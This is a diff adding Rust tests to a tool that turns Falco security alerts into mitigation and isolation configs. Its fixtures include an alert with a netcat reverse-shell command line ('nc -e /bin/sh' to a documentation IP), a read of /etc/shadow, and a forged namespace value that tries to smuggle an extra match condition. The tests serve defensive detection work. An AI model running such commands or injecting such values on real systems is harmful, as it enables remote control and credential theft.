@@ -368,6 +368,53 @@ fn an_attack_is_hidden_only_on_demand_and_the_file_says_so() {
     check(&loaded, &plan);
 }
 
+fn offered(plan: &Plan) -> Vec<&str> {
+    plan.mitigations.iter().filter_map(|mitigation| Some(mitigation.file.as_ref()?.name.as_str())).collect()
+}
+
+#[test]
+fn a_loud_rule_that_says_too_little_is_to_say_more_first() {
+    let line = r#"{"rule":"Read sensitive file untrusted","priority":"Notice","source":"syscall","output_fields":{"proc.name":"agent","fd.name":"/etc/shadow"}}"#;
+    let loaded = Loaded::of("input", [line; 25].join("\n").as_bytes());
+    let output = "falco/output_read_sensitive_file_untrusted.yaml";
+    let routing = "helm/falcosidekick-values.yaml";
+    let last = "falco-last-resort/read_sensitive_file_untrusted.yaml";
+    assert_eq!(offered(&loaded.report.plan), [output, routing, last]);
+    let file = |name: &str| loaded.report.plan.files().into_iter().find(|file| file.name == name).unwrap();
+    for name in [output, last] {
+        assert_eq!(simulated(&file(name).content, &loaded.alerts), (BTreeSet::new(), 0));
+    }
+    assert!(file(routing).content.ends_with("minimumpriority: warning\n"));
+}
+
+#[test]
+fn an_attack_in_a_pod_is_answered_within_its_namespace() {
+    let attack = |namespace: &str| {
+        format!(
+            r#"{{"rule":"Drop and execute new binary in container","priority":"Critical","source":"syscall","output_fields":{{"proc.exepath":"/tmp/.x/nc","container.id":"0123456789ab","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444","k8s.pod.name":"shop-1","k8s.ns.name":"{namespace}"}}}}"#
+        )
+    };
+    let answered = Loaded::of("input", attack("shop").as_bytes());
+    let files = answered.report.plan.files();
+    let talon = files.iter().find(|file| file.name == "falco-talon/isolate.yaml").unwrap();
+    let document = Yaml::load_from_str(&talon.content).unwrap().remove(0);
+    let matched = &document.as_vec().unwrap()[1]["match"];
+    assert_eq!(matched["rules"][0].as_str(), Some("Drop and execute new binary in container"));
+    assert_eq!(matched["output_fields"][0].as_str(), Some("k8s.ns.name=shop"));
+    let forged = Loaded::of("input", attack("shop, k8s.ns.name!=x").as_bytes());
+    assert!(offered(&forged.report.plan).iter().all(|name| !name.starts_with("falco-talon/")));
+}
+
+#[test]
+fn a_real_log_of_one_loud_rule_that_names_no_program_cannot_be_tuned() {
+    let Some(corpus) = shared("corpus") else { return };
+    let log = corpus.join("raw_pretty_mixed/dilarauns__VulnerPlus_falco.log");
+    let loaded = Loaded::of("falco.log", &std::fs::read(log).unwrap());
+    assert_eq!(tunings(&loaded.report.plan).count(), 0);
+    let outputs = offered(&loaded.report.plan).into_iter().filter(|name| name.contains("/output_"));
+    assert_eq!(outputs.count(), 4);
+}
+
 /// Values for the fields that tuning names: ordinary ones, and some that mean something to somebody.
 fn value() -> impl Strategy<Value = String> {
     prop_oneof![
